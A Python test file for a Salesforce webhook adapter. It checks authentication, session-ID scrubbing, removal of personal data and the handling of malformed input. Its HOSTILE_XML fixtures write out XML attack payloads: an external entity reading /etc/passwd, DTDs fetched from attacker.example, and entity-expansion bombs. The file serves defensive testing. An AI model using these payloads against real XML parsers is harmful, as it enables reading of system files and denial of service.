"""Salesforce over HTTP: exact answers, proofs, and bodies that mean harm."""

import base64
import hmac
import json
import re
from datetime import UTC, datetime
from random import Random
from typing import Any

import httpx
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from app.integrations.adapters.base import NotAuthentic, RawRequest, Unparseable
from app.integrations.adapters.salesforce import Salesforce
from app.integrations.mapping import Mapping
from tests.integrations.crm import INDEX, World, body_of, redacted
from tests.integrations.posting import Connection, content
from tests.integrations.salesforce import DEAL, ORG, ORG15, TASK, at, change, envelope, notification, outbound, won
from tests.support import Api

SECRET = "a-long-random-secret-0001"
SAMPLES = [sample for sample in INDEX if sample["file"].startswith("salesforce/")]
POSTED = [sample for sample in SAMPLES if sample["method"] == "POST"]
ACK = re.sub(rb">\s+<", b"><", body_of("salesforce/2.xml")).strip()
SESSION = "00D5g000000Abc1!AQ0AQFakeSessionDoNotLog"
NOW = datetime.fromisoformat("2026-10-01T10:00:00Z")


class Salesforces(Connection):
    """A connected organization, which posts as its configuration says."""

    async def post(self, body: bytes, query: str = f"?key={SECRET}", **headers: Any) -> httpx.Response:
        """One call; as XML if it looks like it."""
        told = {"Content-Type": "text/xml; charset=utf-8", "SOAPAction": '""'} if body[:1] == b"<" else {}
        caller = self.api.world.caller(self.api.org_id, None)
        return await caller.call("POST", f"/hooks/{self.id}{query}", body, headers={**told, **headers})

    async def accept(self, *bodies: bytes) -> None:
        """Post bodies that must be acknowledged in the sender's form, and translate them."""
        for body in bodies:
            answer = await self.post(body)
            is_soap = body[:1] == b"<"
            assert (answer.status_code, answer.content) == (200, ACK if is_soap else b""), body[:100]
            if is_soap:
                assert answer.headers["content-type"] == "text/xml; charset=utf-8"
        await self.translate()


async def salesforce(api: Api, **more: Any) -> Salesforces:
    """A connected Salesforce organization."""
    new = {"key": "sf", "name": "SF", "system": "salesforce", "account_id": ORG15, "secrets": [SECRET], **more}
    return Salesforces(api, await api.post("/sources", new, expect=201))


async def test_samples_are_answered_in_the_senders_form_and_translated(api: Api) -> None:
    connection = await salesforce(api)
    for sample in POSTED:
        await connection.accept(body_of(sample["file"]))
    told = {each["file"]: verdict for each, verdict in zip(POSTED, await verdicts(connection), strict=True)}
    assert {file: verdict for file, verdict in told.items() if verdict != "translated"} == {
        "salesforce/12.json": "unparseable"  # an overflow names no record
    }
    events = {event["external_id"] for event in await connection.events()}
    assert f"deal:{DEAL}:deal.won" not in events  # deleted by sample 10
    assert "activity:00T5g00000QwErTEAV:call.made" in events
    (overflow,) = await connection.deliveries(verdict="unparseable")
    assert "fetch them all" in (await connection.delivery(overflow["id"]))["items"][0]["problem"]


async def verdicts(connection: Connection) -> list[str]:
    return [each["verdict"] for each in reversed(await connection.deliveries())]


async def test_any_order_and_repetition_ends_the_same(api: Api) -> None:
    bodies = [body_of(sample["file"]) for sample in POSTED]
    bodies += [
        outbound(n, "Opportunity", won(at(n), Amount=str(n), IsWon=n != 4, IsClosed=n != 4)) for n in range(2, 7)
    ]
    bodies += [
        change("UNDELETE", datetime(2026, 10, 2, tzinfo=UTC), {"Amount": 9}),
        outbound(999, "Task", {"Id": TASK}),
    ]
    ordered, shuffled = await salesforce(await api.world.organization()), await salesforce(api)
    await ordered.accept(*bodies)
    for seed in range(3):
        await shuffled.accept(*Random(seed).sample(bodies, len(bodies)))
    assert await content(shuffled) == await content(ordered)
    events = {event["external_id"]: event for event in await shuffled.events()}
    assert events[f"deal:{DEAL}:deal.won"]["amount"]["value"] == "9"
    assert not any(key.startswith(f"activity:{TASK}") for key in events)


async def test_another_organization_is_acknowledged_and_changes_nothing(api: Api) -> None:
    connection = await salesforce(api)
    foreign = outbound(1, "Opportunity", won(at(3))).replace(ORG.encode(), b"00D5g000000Abd1EAC")
    relayed = change("CREATE", at(3), won(at(3)), by="eventbridge").replace(ORG.encode(), b"00D5g000000Abd1EAC")
    await connection.accept(foreign, relayed)
    assert await verdicts(connection) == ["foreign_account"] * 2
    await connection.accept(outbound(1, "Opportunity", won(at(3))))
    assert (await verdicts(connection))[-1] == "translated"


async def test_one_bad_notification_never_fails_the_rest(api: Api) -> None:
    connection = await salesforce(api)
    bad = notification(2, "Opportunity", {**won(at(3)), "Id": "nonsense"})
    without = notification(3, "Opportunity", None)
    await connection.accept(envelope(bad, without, notification(1, "Opportunity", won(at(3)))))
    assert [each["verdict"] for each in (await connection.last())["items"]] == [
        "unparseable", "unparseable", "translated",
    ]  # fmt: skip
    assert len(await connection.events()) == 3


async def test_a_session_is_kept_nowhere(api: Api) -> None:
    connection = await salesforce(api)
    message = body_of("salesforce/4.xml")
    formula = {**won(at(3)), "Login__c": f"https://x.example/?sid={SESSION}"}
    await connection.accept(message, message[:700], outbound(1, "Opportunity", formula))
    await connection.accept(message.replace(b"<?xml", b"<!DOCTYPE x><?xml"))
    for delivery in await connection.deliveries():
        assert "FakeSession" not in json.dumps(await connection.delivery(delivery["id"]))
    adapter = Salesforce()
    for hidden in (
        message[: message.index(b"DoNotLog") + 3],
        message.decode().encode("utf-16"),
        message.replace(b"<SessionId>", b"<n:SessionId\n a='b'><![CDATA[").replace(
            b"</SessionId>", b"]]></n:SessionId>"
        ),
        f'{{"sid": "{SESSION}"}}'.encode(),
        f'{{"sid": "{SESSION}"'.replace("!", "\\u0021").encode(),
        f"<a>{SESSION}</a>".replace("!", "&#33;").encode(),
        b"<sessionid>" + SESSION.encode(),
    ):
        assert b"FakeSession" not in adapter.scrub(hidden)
    assert adapter.scrub(body_of("salesforce/1.xml")) == body_of("salesforce/1.xml")


async def test_strangers_are_refused_whatever_they_bring(api: Api) -> None:
    connection = await salesforce(api)
    body = outbound(1, "Opportunity", won(at(3)))
    for query in ("", "?key=", "?key=wrong", f"?other={SECRET}", "?key=%FF%00", f"?key={SECRET}x"):
        answer = await connection.post(body, query)
        assert (answer.status_code, answer.content) == (401, b"")
    assert await connection.deliveries() == []


PLAIN = [
    {"query": f"key={SECRET}"},
    {"query": f"key=old&key={SECRET}"},
    {"headers": {"x-paceline-key": SECRET}},
    {"headers": {"authorization": f"Bearer {SECRET}"}},
]


@pytest.mark.parametrize("told", PLAIN)
def test_the_secret_may_stand_in_several_places(told: dict[str, Any]) -> None:
    request = RawRequest("POST", "", told.get("headers", {}), b"{}", told.get("query", ""))
    Salesforce().authenticate(request, ["another", SECRET], NOW, Mapping())
    for secrets in ([], ["another"], [""]):
        with pytest.raises(NotAuthentic):
            Salesforce().authenticate(request, secrets, NOW, Mapping())


def test_user_and_password_of_a_relay() -> None:
    token = base64.b64encode(b"relay:word").decode()
    request = RawRequest("POST", "", {"authorization": f"Basic {token}"}, b"{}")
    Salesforce().authenticate(request, ["relay:word"], NOW, Mapping())
    with pytest.raises(NotAuthentic):
        Salesforce().authenticate(request, ["relay:other"], NOW, Mapping())


def test_a_signature_that_is_sent_decides_alone() -> None:
    key = base64.b64encode(b"k" * 32).decode()
    body, sent = b'{"a": 1}', str(int(NOW.timestamp()))
    signature = base64.b64encode(hmac.digest(b"k" * 32, f"m1.{sent}.".encode() + body, "sha256")).decode()
    headers = {"webhook-id": "m1", "webhook-timestamp": sent, "webhook-signature": f"v1,{signature}"}
    secrets = [SECRET, f"whsec_{key}"]
    Salesforce().authenticate(RawRequest("POST", "", headers, body), secrets, NOW, Mapping())
    with pytest.raises(NotAuthentic):
        Salesforce().authenticate(RawRequest("POST", "", headers, b"{}", f"key={SECRET}"), secrets, NOW, Mapping())
    assert Salesforce().fault_of_secret("whsec_!!")
    assert Salesforce().fault_of_secret(SECRET) is None


ENTITIES = "".join(f'<!ENTITY a{n} "{"&a" + str(n - 1) + ";" if n else "ha"}">' * 1 for n in range(10))
START = envelope()[: -len("</notifications></s:Body></s:Envelope>")]
HOSTILE_XML: dict[str, bytes] = {
    "entity expansion": f"<!DOCTYPE x [{ENTITIES}]><x>&a9;</x>".encode(),
    "external entity": b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
    "external DTD": b'<!DOCTYPE x SYSTEM "http://attacker.example/x.dtd"><x/>',
    "parameter entity": b'<!DOCTYPE x [<!ENTITY % p SYSTEM "http://attacker.example/x"> %p;]><x/>',
    "DTD around a genuine message": envelope(notification(1, "Opportunity", won(at(3)))).replace(
        b"?><s:", b"?><!DOCTYPE s><s:"
    ),
    "undefined entity": START + b"&nope;",
    "deep": START + b"<a>" * 200_000,
    "many notifications": START + b"<Notification/>" * 100_000,
    "101 notifications": envelope(*(notification(n, "Opportunity", won(at(3))) for n in range(101))),
    "many elements": START + b"<a/>" * 200_000,
    "a namespace that makes each name long": (START + f'<a xmlns="{"n" * 100_000}">'.encode() + b"<b/>" * 50_000),
    "truncated": body_of("salesforce/1.xml")[:1500],
    "only a tag": b"<",
    "latin-1": envelope(notification(1, "Opportunity", {**won(at(3)), "Name": "Söhne"}))
    .decode()
    .replace("UTF-8", "ISO-8859-1")
    .encode("latin-1"),
    "processing instruction": body_of("salesforce/1.xml").replace(b"?><", b"?><?xml-stylesheet href='x'?><", 1),
    "no SOAP": b"<notifications/>",
    "another body": body_of("salesforce/2.xml"),
    "NUL": b"<a>\x00</a>",
    "wrong namespace": body_of("salesforce/1.xml").replace(b"2005/09/outbound", b"2005/09/inbound"),
}


@pytest.mark.parametrize("name", HOSTILE_XML)
def test_hostile_xml_is_unparseable(name: str) -> None:
    with pytest.raises(Unparseable):
        redacted(Salesforce(), HOSTILE_XML[name])
    assert b"FakeSession" not in Salesforce().scrub(HOSTILE_XML[name])


async def test_hostile_xml_is_acknowledged_and_kept_to_be_looked_at(api: Api) -> None:
    connection = await salesforce(api)
    await connection.accept(*HOSTILE_XML.values())
    assert await verdicts(connection) == ["unparseable"] * len(HOSTILE_XML)
    await connection.accept(outbound(1, "Opportunity", won(at(3))))
    assert len(await connection.events()) == 3


HOSTILE_JSON: list[bytes] = [
    b"", b"{", b"\xff\xfe{}", b"[NaN]", b"[" * 100_000, b"{}", b"null", b"5", b"[]", b"[[], 1, null, {}]",
    b'{"record": {}}', b'{"record": {"Id": "x"}, "org_id": 5}', b'{"record": [], "object": {}}',
    b'{"ChangeEventHeader": {}}', b'{"ChangeEventHeader": 5, "CreatedDate": {}}',
    b'{"data": {"payload": {"ChangeEventHeader": {"recordIds": {"a": 1}}}}}',
    b'{"detail": {"payload": []}, "source": "aws.partner/salesforce.com/x/y"}',
    b'{"CreatedDate": "9999-12-31T23:59:59-23:00", "Activity_Type__c": "CALL", "event": {"EventUuid": "u"}}',
    b'{"CreatedDate": 1e999999999, "Activity_Type__c": "\\u0000\\ud800", "event": {"EventUuid": "u"}}',
    b'{"fetched": "deal", "account_id": "x", "at": "2026-01-01", "items": [{}], "gone": ["x"]}',
    json.dumps({"a": {"b": {"c": {}}}} | {f"f{n}": n for n in range(50_000)}).encode(),
]  # fmt: skip
ODD: list[dict[str, Any]] = [
    {"recordIds": [DEAL] * 10_001}, {"recordIds": []}, {"recordIds": [None, 5, {}, "x" * 100]},
    {"commitTimestamp": "soon"}, {"commitTimestamp": 10**400}, {"commitTimestamp": -1}, {"commitTimestamp": True},
    {"transactionKey": None}, {"transactionKey": "a:b"}, {"sequenceNumber": "one"}, {"sequenceNumber": -5},
    {"sequenceNumber": 10**300}, {"changeType": "EXPLODE"}, {"changeType": None}, {"entityName": ["x"]},
    {"entityName": "\x00\ud800"}, {"changedFields": {"a": 1}}, {"changedFields": [None, {}, "0x", 5]},
    {"nulledFields": "Amount"},
]  # fmt: skip


async def test_hostile_json_is_acknowledged_and_does_no_harm(api: Api) -> None:
    connection = await salesforce(api)
    odd = []
    for header in ODD:
        message = json.loads(change("UPDATE", at(4), {"Amount": 1, "OwnerId": {"deep": [[]]}}, by="pubsub"))
        message["ChangeEventHeader"] |= header
        odd.append(json.dumps(message).encode())
    fields = won(at(3), Amount="1e999999999", CloseDate="9999-99-99", OwnerId="\u0001", StageName="x" * 9999)
    del fields["CreatedDate"], fields["SystemModstamp"], fields["LastModifiedDate"]
    callout = {"org_id": ORG, "object": "Opportunity", "event": 5, "record": fields, "at": "2026-09-03T12:00:00Z"}
    await connection.accept(*HOSTILE_JSON, *odd, json.dumps(callout).encode())
    assert "failed" not in await verdicts(connection)
    await connection.accept(outbound(1, "Opportunity", won(at(5))))
    assert "deal.won" in {event["type"] for event in await connection.events()}


async def test_a_webhook_cannot_look_like_what_was_fetched(api: Api) -> None:
    connection = await salesforce(api)
    rows = {"fetched": "deal", "account_id": ORG, "at": "2026-01-01T00:00:00Z", "items": [], "gone": [DEAL]}
    await connection.accept(outbound(1, "Opportunity", won(at(3))))
    for body in (rows, {**rows, "CreatedDate": "2026-01-01T00:00:00Z"}, {**rows, "record": rows}, [rows]):
        await connection.accept(json.dumps(body).encode())
    assert len(await connection.events()) == 3


async def test_what_is_kept_has_no_names_addresses_or_texts(api: Api) -> None:
    connection = await salesforce(api)
    personal = {
        "FirstName": "Ada",
        "LastName": "Lovelace",
        "Email": "ada@example.com",
        "Phone": "+48 600",
        "Title": "CTO",
    }
    lead = {"Id": "00Q5g00000AbCdEEAV", "Company": "Polar AG", "Industry": "Ice", "LastModifiedDate": at(3), **personal}
    task = {"Id": "00T5g00000QwErTEAV", "Subject": "Secret", "Description": "he said", "LastModifiedDate": at(3)}
    deal = won(at(3), Description="he said", NextStep="call Ada", Region__c="north")
    contact = {"Id": "0035g00000gg9GAAAY", "Industry": "Ice", "LastModifiedDate": at(3), **personal}
    parts = [
        ("Lead", lead),
        ("Task", task),
        ("Opportunity", deal),
        ("Contact", contact),
        (
            "Account",
            {"Id": "0015g00000BFDeLAAX", "Name": "Lovelace", "IsPersonAccount": True, "LastModifiedDate": at(3)},
        ),
        ("Case", personal | {"Id": DEAL}),
    ]
    await connection.accept(envelope(*(notification(n, name, fields) for n, (name, fields) in enumerate(parts))))
    await connection.accept(change("UPDATE", at(4), {"Name": {"FirstName": "Ada"}, **personal}, entity="Lead"))
    kept = json.dumps([await connection.delivery(each["id"]) for each in await connection.deliveries()])
    assert not any(told in kept for told in ("Ada", "Lovelace", "ada@", "+48", "CTO", "Secret", "he said"))
    assert all(told in kept for told in ("Polar AG", "north", "Ice"))
    assert SECRET not in kept
    assert await verdicts(connection) == ["translated", "ignored"]  # all that changed is personal


ODD_VALUES: list[Any] = [
    None, True, -1, 10**30, 1.5, "", "x" * 600, "\x00\ud800", "005", DEAL, [], {}, [{}], {"a": []}, "9" * 50, "1e9999",
    "2026-13-99", "9999-12-31T23:59:59Z", "true",
]  # fmt: skip


@settings(max_examples=300, deadline=None)
@given(st.sampled_from(POSTED), st.randoms(use_true_random=False))
def test_mutilated_messages_raise_nothing_else(sample: dict[str, Any], chance: Random) -> None:
    body = body_of(sample["file"])
    if sample["file"].endswith(".json") and chance.random() < 0.7:
        body = json.dumps(_mutilated(json.loads(body), chance)).encode()
    else:
        cut, length = chance.randrange(len(body)), chance.randrange(20)
        body = body[:cut] + chance.choice([b"", b"<", b"&", b"\xff", b'"', body[:50]]) + body[cut + length :]
    try:
        World("salesforce").tell(body).events()
    except Unparseable:
        assert SESSION.encode() not in Salesforce().scrub(body)


def _mutilated(value: Any, chance: Random) -> Any:
    if chance.random() < 0.08:
        return chance.choice(ODD_VALUES)
    if isinstance(value, dict):
        return {name: _mutilated(each, chance) for name, each in value.items() if chance.random() > 0.02}
    return [_mutilated(each, chance) for each in value] if isinstance(value, list) else value
